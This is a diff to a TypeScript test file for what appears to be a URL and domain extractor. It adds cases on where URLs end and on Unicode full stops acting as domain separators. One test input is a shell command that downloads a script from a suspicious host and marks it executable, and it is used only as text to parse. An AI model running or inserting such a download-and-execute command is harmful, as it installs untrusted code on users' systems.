@@ -24,6 +24,8 @@ const found = (description: string): string[] =>
 
 describe('a URL in a text ends', () => {
   test.each([
+    ['at the next command', 'curl http://evilnet.ru/p.sh;chmod +x p.sh', 'http://evilnet.ru/p.sh'],
+    ['not at a parameter of its path', 'http://evilnet.ru/p;v1/q', 'http://evilnet.ru/p;v1/q'],
     ['at a tag', 'http://evilnet.ru/p.html</a><br></div>', 'http://evilnet.ru/p.html'],
     ['at a tag behind other words', '<td>http://evilnet.ru/p</td>', 'http://evilnet.ru/p'],
     ['at the end of an attribute', 'x="http://evilnet.ru/main"><a:data', 'http://evilnet.ru/main'],
@@ -235,4 +237,11 @@ describe('nothing is found', () => {
   ])('where a template names a field in place of an account: %j', (text) => {
     expect(found(text)).toEqual([]);
   });
+});
+
+test.each([
+  ['evilnet\u3002ru', 'evilnet.ru'],
+  ['cdn\u3002evilnet\uff0eru', 'cdn.evilnet.ru'],
+])('full stops of other scripts part the labels of %j', (written, domain) => {
+  expect(found(`It asked for ${written} twice.`)).toEqual([`domain ${domain}`]);
 });
